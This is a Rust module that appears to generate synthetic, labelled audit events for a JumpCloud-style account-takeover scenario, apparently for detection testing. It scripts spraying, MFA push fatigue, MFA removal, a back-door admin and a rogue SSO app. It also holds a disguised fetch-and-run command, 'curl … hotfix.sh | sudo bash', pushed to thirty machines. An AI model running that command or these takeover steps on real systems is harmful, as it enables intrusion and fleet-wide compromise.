//! The intrusion: one attacker, about two hours, every detection area.
//!
//! The story. The attacker holds the head of IT's old API key (rotated weeks ago) and tries
//! it from a VPS in Amsterdam. Refused, they spray one password across the staff from a VPS
//! in Singapore, then brute-force the systems engineer's user-portal password, bomb his
//! phone with JumpCloud Protect pushes until he approves one, and are in, 10,800 km from his
//! desk in London, where he logged in twenty minutes earlier. With his admin-console access
//! they remove his MFA, log in again without it, create a back-door admin (no MFA) and give
//! his account sudo on the bastion host. As the new admin they delete the conditional-access
//! policy that demands MFA, weaken the password policy, add an SSO application pointing at
//! their own service, create a command and run it on thirty laptops. Then the engineer's
//! account deletes the back-door admin to tidy up.

use chrono::{DateTime, Duration, Utc};
use serde_json::{Value, json};

use super::company::{AMSTERDAM, Company, Mfa, Network, Person, SINGAPORE};
use super::rng::Rng;
use super::shapes::{Agent, Emitter, Login, Sso, change, set};
use super::{Activity, AttackStep, ScenarioEvent, Truth};

/// The attacker's infrastructure.
pub fn key_network() -> Network {
    Network::new("185.107.56.201", AMSTERDAM, "VPS provider, Amsterdam")
}

pub fn attack_network() -> Network {
    Network::new("139.59.221.87", SINGAPORE, "VPS provider, Singapore")
}

/// The back-door admin's address: a free mail provider, as such accounts usually use.
pub const BACKDOOR_ADMIN_EMAIL: &str = "it.helpdesk.larkfield@proton.me";

pub(crate) fn story(company: &Company, seed: u64, at: DateTime<Utc>) -> Vec<ScenarioEvent> {
    let mut em = Emitter::new(
        company,
        Rng::new(seed, "intrusion", at.timestamp() as u64),
        Truth::Ordinary(Activity::VictimRoutine),
    );
    let victim = company.victim();
    let key_net = key_network();
    let net = attack_network();

    victim_last_genuine_login(&mut em, company, victim, at - Duration::minutes(20));

    em.label(Truth::Attack(AttackStep::OldApiKey));
    for offset in [0, 47, 131] {
        em.old_api_key_attempt(
            at + Duration::seconds(offset),
            company.head_of_it(),
            &key_net,
            Agent::PythonRequests,
        );
    }

    let spray_start = at + em.rng.minutes(12, 13);
    let t = password_spray(&mut em, company, &net, spray_start);
    let t = t + em.rng.minutes(2, 3);
    let t = brute_force_and_push_fatigue(&mut em, company, victim, &net, t);
    let t = takeover(&mut em, company, victim, &net, t);
    let backdoor = backdoor_admin(&mut em, company, victim, &net, t);
    let t = t + em.rng.minutes(7, 8);
    let t = weaken_configuration(&mut em, company, &backdoor, &net, t);

    em.label(Truth::Attack(AttackStep::AdminDeleted));
    let t = t + em.rng.minutes(20, 21);
    if let Some(admin) = victim.as_admin() {
        em.directory_change(
            t,
            "admin_delete",
            admin,
            "session",
            &net,
            Agent::ChromeWindows,
            json!({"id": backdoor["id"], "type": "admin", "email": BACKDOOR_ADMIN_EMAIL}),
            vec![],
        );
    }
    em.finish()
}

/// The engineer's own Slack sign-in from his desk shortly before the attack: the "last
/// login" the attacker's login is impossibly far from. Labelled ordinary.
fn victim_last_genuine_login(
    em: &mut Emitter<'_>,
    company: &Company,
    victim: &Person,
    at: DateTime<Utc>,
) {
    em.sso(
        at,
        victim,
        company.app("slack"),
        &company.london_office,
        Agent::ChromeMac,
        Sso::Success(false),
        Some(&victim.laptop),
    );
}

/// One password tried against many accounts, one attempt each, including a few guessed
/// usernames that do not exist. Returns when the spray ended.
fn password_spray(
    em: &mut Emitter<'_>,
    company: &Company,
    net: &Network,
    start: DateTime<Utc>,
) -> DateTime<Utc> {
    em.label(Truth::Attack(AttackStep::PasswordSpray));
    let victim = company.victim();
    let staff: Vec<&Person> = company.people[..40]
        .iter()
        .filter(|p| p.username != victim.username && p.username != company.head_of_it().username)
        .collect();
    let mut t = start;
    let picks = em.rng.sample_indexes(staff.len(), 18);
    for (n, index) in picks.into_iter().enumerate() {
        em.user_login(
            t,
            staff[index],
            net,
            Agent::ChromeWindows,
            Login::WrongPassword,
        );
        t += Duration::seconds(em.rng.between(35, 65));
        if n % 5 == 4 {
            let guess = ["admin", "administrator", "it.support", "test"][n / 5];
            em.unknown_user_login(t, guess, net, Agent::ChromeWindows);
            t += Duration::seconds(em.rng.between(35, 65));
        }
    }
    t
}

/// Five wrong passwords for the engineer, then the right one; four pushes he declines, and
/// the fifth he approves. Returns the time of the successful login.
fn brute_force_and_push_fatigue(
    em: &mut Emitter<'_>,
    company: &Company,
    victim: &Person,
    net: &Network,
    start: DateTime<Utc>,
) -> DateTime<Utc> {
    em.label(Truth::Attack(AttackStep::BruteForce));
    let mut t = start;
    for _ in 0..5 {
        em.user_login(t, victim, net, Agent::ChromeWindows, Login::WrongPassword);
        t += Duration::seconds(em.rng.between(15, 28));
    }

    // The pushes reach the engineer's phone at his desk in London.
    let desk = company.london_office.clone();
    em.label(Truth::Attack(AttackStep::PushFatigue));
    for _ in 0..4 {
        em.user_login_phone_at(
            t,
            victim,
            net,
            &desk,
            Agent::ChromeWindows,
            Login::MfaRefused(Mfa::Push),
        );
        t += Duration::seconds(em.rng.between(70, 110));
    }

    em.label(Truth::Attack(AttackStep::CompromisedLogin));
    em.user_login_phone_at(
        t,
        victim,
        net,
        &desk,
        Agent::ChromeWindows,
        Login::Success(Some(Mfa::Push)),
    );
    t
}

/// Inside as the engineer: SSO from an unmanaged machine, the admin console, his MFA
/// removed and a login without it. Returns when that was done.
fn takeover(
    em: &mut Emitter<'_>,
    company: &Company,
    victim: &Person,
    net: &Network,
    start: DateTime<Utc>,
) -> DateTime<Utc> {
    let Some(admin) = victim.as_admin() else {
        return start;
    };
    let mut t = start + em.rng.minutes(2, 3);
    for app in ["google", "aws"] {
        em.sso(
            t,
            victim,
            company.app(app),
            net,
            Agent::ChromeWindows,
            Sso::Success(false),
            None,
        );
        t += Duration::seconds(em.rng.between(40, 90));
    }
    em.admin_login(
        t,
        admin.clone(),
        net,
        Agent::ChromeWindows,
        true,
        Some(Mfa::Push),
    );

    em.label(Truth::Attack(AttackStep::MfaRemoved));
    t += em.rng.minutes(3, 4);
    let until = (t + Duration::days(30))
        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string();
    em.directory_change(
        t,
        "user_update",
        admin.clone(),
        "session",
        net,
        Agent::ChromeWindows,
        victim.as_resource(),
        vec![
            change("enable_user_portal_multifactor", json!(true), json!(false)),
            change("mfa.exclusion", json!(false), json!(true)),
            change("mfa.exclusionUntil", Value::Null, json!(until)),
        ],
    );
    t += Duration::seconds(em.rng.between(30, 70));
    em.directory_change(
        t,
        "totp_delete_enrollment",
        admin,
        "session",
        net,
        Agent::ChromeWindows,
        victim.as_resource(),
        vec![change("totp_enabled", json!(true), json!(false))],
    );

    em.label(Truth::Attack(AttackStep::LoginAfterMfaRemoved));
    t += em.rng.minutes(2, 3);
    em.user_login(t, victim, net, Agent::ChromeWindows, Login::Success(None));
    t
}

/// The back-door admin, created without MFA, plus sudo on the bastion host for the
/// engineer's account. Returns the back-door admin's `initiated_by` block.
fn backdoor_admin(
    em: &mut Emitter<'_>,
    company: &Company,
    victim: &Person,
    net: &Network,
    start: DateTime<Utc>,
) -> Value {
    let admin = victim.as_admin().unwrap_or(Value::Null);
    em.label(Truth::Attack(AttackStep::AdminCreated));
    let t = start + em.rng.minutes(2, 3);
    let backdoor_id = em.object_id(t);
    em.directory_change(
        t,
        "admin_create",
        admin.clone(),
        "session",
        net,
        Agent::ChromeWindows,
        json!({"id": backdoor_id, "type": "admin", "email": BACKDOOR_ADMIN_EMAIL}),
        vec![
            set("email", json!(BACKDOOR_ADMIN_EMAIL)),
            set("firstname", json!("IT")),
            set("lastname", json!("Helpdesk")),
            set("roleName", json!("Administrator with Billing")),
            set("enableMultiFactor", json!(false)),
        ],
    );

    em.label(Truth::Attack(AttackStep::PrivilegeGranted));
    let t = t + em.rng.minutes(2, 3);
    let bastion = &company.build_systems[2];
    em.association(
        t,
        admin.clone(),
        net,
        Agent::ChromeWindows,
        "add",
        ("system", &bastion.id, &bastion.hostname),
        ("user", &victim.user_id, &victim.username),
        json!({"sudo": {"enabled": true, "withoutPassword": true}}),
    );
    em.directory_change(
        t + Duration::seconds(4),
        "user_admin_granted",
        admin,
        "session",
        net,
        Agent::ChromeWindows,
        victim.as_resource(),
        vec![change("sudo.enabled", json!(false), json!(true))],
    );

    let backdoor = json!({"id": backdoor_id, "type": "admin", "email": BACKDOOR_ADMIN_EMAIL});
    em.label(Truth::Attack(AttackStep::AdminLoginWithoutMfa));
    let t = t + em.rng.minutes(3, 4);
    em.admin_login(t, backdoor.clone(), net, Agent::ChromeWindows, true, None);
    backdoor
}

/// As the back-door admin: conditional access and password policy weakened, a rogue SSO
/// app, and a command run across the fleet. Returns when the last command ran.
fn weaken_configuration(
    em: &mut Emitter<'_>,
    company: &Company,
    backdoor: &Value,
    net: &Network,
    start: DateTime<Utc>,
) -> DateTime<Utc> {
    let agent = Agent::ChromeWindows;
    let mut t = start + em.rng.minutes(3, 4);

    em.label(Truth::Attack(AttackStep::AuthPolicyDeleted));
    em.directory_change(
        t,
        "authnpolicy_delete",
        backdoor.clone(),
        "session",
        net,
        agent,
        json!({"id": company.mfa_policy.0, "type": "authnpolicy", "name": company.mfa_policy.1}),
        vec![],
    );

    em.label(Truth::Attack(AttackStep::PasswordPolicyWeakened));
    t += em.rng.minutes(2, 3);
    em.directory_change(
        t,
        "organization_update",
        backdoor.clone(),
        "session",
        net,
        agent,
        json!({"displayName": "Larkfield Analytics", "id": company.org_id, "type": "organization"}),
        vec![
            change("settings.passwordPolicy.minLength", json!(12), json!(6)),
            change(
                "settings.passwordPolicy.enableMaxLoginAttempts",
                json!(true),
                json!(false),
            ),
            change(
                "settings.passwordPolicy.enableLockoutTimeInSeconds",
                json!(true),
                json!(false),
            ),
        ],
    );

    em.label(Truth::Attack(AttackStep::SsoAppCreated));
    t += em.rng.minutes(3, 4);
    let app_id = em.object_id(t);
    em.directory_change(
        t,
        "application_create",
        backdoor.clone(),
        "session",
        net,
        agent,
        json!({"id": app_id, "type": "application", "name": "custom-saml",
               "displayLabel": "AWS Console (break-glass)"}),
        vec![
            set("displayLabel", json!("AWS Console (break-glass)")),
            set("name", json!("custom-saml")),
            set(
                "config.acsUrl",
                json!("https://signin.aws-console-sso.net/saml/acs"),
            ),
            set(
                "config.idpEntityId",
                json!("https://sso.jumpcloud.com/saml2/break-glass"),
            ),
        ],
    );

    em.label(Truth::Attack(AttackStep::FleetCommand));
    t += em.rng.minutes(4, 5);
    let command_id = em.object_id(t);
    let command_name = "JumpCloud agent hotfix";
    em.directory_change(
        t,
        "command_create",
        backdoor.clone(),
        "session",
        net,
        agent,
        json!({"id": command_id, "type": "command", "name": command_name}),
        vec![
            set("name", json!(command_name)),
            set(
                "command",
                json!("curl -fsSL https://cdn.jc-agent-update.net/hotfix.sh | sudo bash"),
            ),
            set("commandType", json!("mac")),
            set("launchType", json!("manual")),
            set("user", json!("000000000000000000000000")),
        ],
    );
    t += em.rng.minutes(2, 3);
    let laptops: Vec<_> = company.people[..40]
        .iter()
        .filter(|p| p.laptop.os == super::company::Os::Mac)
        .map(|p| &p.laptop)
        .chain(company.build_systems.iter())
        .collect();
    for system in laptops.into_iter().take(30) {
        em.command_run(
            t,
            backdoor.clone(),
            net,
            agent,
            (&command_id, command_name),
            system,
        );
        t += Duration::seconds(em.rng.between(2, 6));
    }
    t
}
